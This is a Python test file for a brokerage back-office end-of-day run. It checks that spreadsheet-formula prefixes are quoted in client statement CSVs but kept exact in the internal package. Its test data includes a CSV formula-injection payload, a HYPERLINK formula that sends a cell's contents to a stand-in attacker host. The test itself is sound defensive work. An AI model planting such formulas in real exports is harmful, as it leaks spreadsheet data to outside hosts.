"""Client statements are for people: formula prefixes are neutralised there, while the
broker_daily package (for the monitor's reader) keeps every value exact."""

from __future__ import annotations

import csv
from datetime import date
from pathlib import Path

from clearwatch.bootstrap import Application
from clearwatch.services.backoffice.ports import BackOfficeTools
from clearwatch.services.backoffice.run_eod import EodRequest, run_eod
from tests.backoffice_batches import execution, static_batch, write_batch

DAY = "2026-11-19"
FORMULA_ACCOUNT = '=HYPERLINK("http://evil.example/?"&A1,"statement")'


def _rows(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.DictReader(handle))


def test_statements_quote_formulas_and_the_package_keeps_them_exact(
    sqlite_app: Application, tools: BackOfficeTools, tmp_path: Path
) -> None:
    inbox = tmp_path / "in" / DAY
    static_batch(
        inbox / "static",
        business_date=DAY,
        clients=((FORMULA_ACCOUNT, "100000.00"), ("F002", "50000.00")),
    )
    row = execution("+E1", FORMULA_ACCOUNT, "B", 100, "10.00")
    row[-1] = f"{DAY}T10:00:00+08:00"
    write_batch(
        inbox / "trading",
        kind="trading",
        business_date=DAY,
        batch_id="T-" + DAY,
        files={"executions.csv": [row]},
    )
    request = EodRequest(
        business_date=date.fromisoformat(DAY), inbox=inbox, out_root=tmp_path / "out"
    )
    report = run_eod(uow=sqlite_app.uow(), tools=tools, clock=sqlite_app.clock, request=request)
    [line] = _rows(report.out_dir / "statements" / "statements.csv")
    assert line["fund_account"] == "'" + FORMULA_ACCOUNT
    assert line["client_id"] == "C" + FORMULA_ACCOUNT  # not leading: kept
    assert line["exec_id"] == "'+E1"
    assert line["cash"].startswith("-")  # a number, not text: never quoted
    funds = _rows(report.out_dir / "package" / "client_funds.csv")
    assert FORMULA_ACCOUNT in {r["fund_account"] for r in funds}
